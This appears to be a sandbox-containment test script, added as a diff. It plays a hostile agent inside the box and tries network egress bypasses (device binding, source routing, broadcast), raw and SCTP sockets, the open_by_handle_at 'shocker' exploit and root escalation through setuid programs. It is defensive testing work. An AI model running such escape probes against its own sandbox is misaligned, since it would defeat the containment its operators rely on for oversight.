@@ -1,0 +1,179 @@
+"""What a hostile agent tries. Runs inside the box, on its own Python, from standard input: standard library alone.
+
+Each attack returns one word: `ok...` when it had its way, else the name of the error that stopped it.
+"""
+
+import ctypes
+import errno
+import json
+import os
+import socket
+import struct
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+Option = tuple[int, int, Any]
+
+TIMEOUT = 3.0
+DEVICE = b"eth0"
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def word(error: Exception) -> str:
+    """The name of an error, e.g. EPERM; of a time-out, `timeout`."""
+    if isinstance(error, TimeoutError):
+        return "timeout"
+    return (
+        errno.errorcode.get(error.errno, type(error).__name__) if isinstance(error, OSError) else type(error).__name__
+    )
+
+
+def tcp(host: str, port: int, *options: Option) -> str:
+    with socket.socket(_family(host), socket.SOCK_STREAM) as sock:
+        sock.settimeout(TIMEOUT)
+        for option in options:
+            sock.setsockopt(*option)
+        sock.connect((host, port))
+        return "ok connected"
+
+
+def udp(
+    host: str, port: int, *options: Option, flags: int = 0, ancillary: tuple[tuple[int, int, bytes], ...] = ()
+) -> str:
+    """A datagram that no answer is expected to: `ok sent` when the kernel took it."""
+    with socket.socket(_family(host), socket.SOCK_DGRAM) as sock:
+        for option in options:
+            sock.setsockopt(*option)
+        sock.sendmsg([b"attack"], ancillary, flags, (host, port))
+        return "ok sent"
+
+
+def ask(host: str, port: int, content: str) -> str:
+    """A datagram that an answer is expected to."""
+    with socket.socket(_family(host), socket.SOCK_DGRAM) as sock:
+        sock.settimeout(TIMEOUT)
+        sock.sendto(bytes.fromhex(content), (host, port))
+        return "ok " + sock.recv(4096).hex()
+
+
+def on_device(kind: str, host: str, port: int) -> str:
+    """Past the routing table: a socket that is bound to the device takes any address for a neighbour's."""
+    index = socket.if_nametoindex(DEVICE.decode())
+    device, direct, broadcast = (1, 25, DEVICE), (1, 5, 1), (1, 6, 1)
+    unicast_if = (0, 50, struct.pack("!I", index))
+    multicast_if = (0, 32, struct.pack("4s4si", bytes(4), bytes(4), index))
+    pktinfo = ((0, 8, struct.pack("=I4s4s", index, bytes(4), bytes(4))),)
+    ways = {
+        "tcp": lambda: tcp(host, port, device, direct),
+        "bound": lambda: udp(host, port, device, direct),
+        "flag": lambda: udp(host, port, device, flags=4),
+        "unicast-if": lambda: udp(host, port, unicast_if, direct),
+        "pktinfo": lambda: udp(host, port, direct, ancillary=pktinfo),
+        "source-route": lambda: udp(host, port, (0, 4, bytes([137, 7, 4]) + socket.inet_aton(host) + b"\0")),
+        "broadcast": lambda: udp(host, port, broadcast),
+        "broadcast-bound": lambda: udp(host, port, broadcast, device),
+        "multicast": lambda: udp(host, port),
+        "multicast-if": lambda: udp(host, port, multicast_if),
+    }
+    return ways[kind]()
+
+
+def ping(host: str) -> str:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
+        sock.settimeout(TIMEOUT)
+        sock.sendto(b"\x08\0\0\0\0\1\0\1" + b"payload!", (host, 0))
+        sock.recv(100)
+        return "ok answered"
+
+
+def opened(family: str, kind: str, protocol: int) -> str:
+    """A socket of a kind that goes beneath or beside TCP and UDP."""
+    socket.socket(getattr(socket, family), getattr(socket, kind), protocol).close()
+    return "ok open"
+
+
+def sctp(host: str, port: int) -> str:
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP) as sock:
+        sock.settimeout(TIMEOUT)
+        sock.connect((host, port))
+        return "ok connected"
+
+
+def resolve(name: str) -> str:
+    return f"ok {socket.getaddrinfo(name, 80)[0][4][0]}"
+
+
+def unix(path: str) -> str:
+    with socket.socket(socket.AF_UNIX) as sock:
+        sock.connect(path)
+        return "ok connected"
+
+
+def write(path: str) -> str:
+    Path(path).write_text("1\n")
+    return "ok written"
+
+
+def read(path: str) -> str:
+    with Path(path).open("rb") as file:
+        return "ok " + file.read(200).hex()
+
+
+def call(name: str, *arguments: Any) -> str:
+    """A system call of the C library's, by name. Texts are passed as bytes."""
+    values = [value.encode() if isinstance(value, str) else value for value in arguments]
+    ctypes.set_errno(0)
+    result = getattr(libc, name)(*values)
+    if result < 0:
+        raise OSError(ctypes.get_errno(), name)
+    return f"ok {result}"
+
+
+def syscall(number: int, *arguments: Any) -> str:
+    return call("syscall", number, *arguments)
+
+
+def shocker(path: str) -> str:
+    """open_by_handle_at on the root's inode, CAP_DAC_READ_SEARCH's gift."""
+    root = os.open(path, os.O_RDONLY)
+    handle = struct.pack("=Ii8s", 8, 1, struct.pack("=II", 2, 0))
+    return call("open_by_handle_at", root, ctypes.create_string_buffer(handle), os.O_RDONLY)
+
+
+def become_root() -> str:
+    """Every setuid program of the image, asked to do what only root may."""
+    found = []
+    for root in ("/bin", "/sbin", "/usr"):
+        for path in Path(root).rglob("*"):
+            try:
+                if path.is_file() and not path.is_symlink() and path.stat().st_mode & 0o6000:
+                    found.append(str(path))
+            except OSError:
+                continue
+    if not found:
+        return "ENOENT"
+    for name in ("su", "newgrp", "chsh"):
+        for program in found:
+            if program.endswith("/" + name):
+                done = subprocess.run(
+                    [program, "-c", "id -u"], input=b"\n", capture_output=True, timeout=20, check=False
+                )
+                if done.stdout.strip() == b"0":
+                    return "ok root by " + program
+    return "powerless"
+
+
+def _family(host: str) -> socket.AddressFamily:
+    return socket.AF_INET6 if ":" in host else socket.AF_INET
+
+
+if __name__ == "__main__":
+    answers = []
+    for name, arguments in json.loads(sys.argv[1]):
+        try:
+            answers.append(globals()[name](*arguments))
+        except (OSError, AttributeError, subprocess.SubprocessError) as failure:
+            answers.append(word(failure))
+    sys.stdout.write(json.dumps(answers))
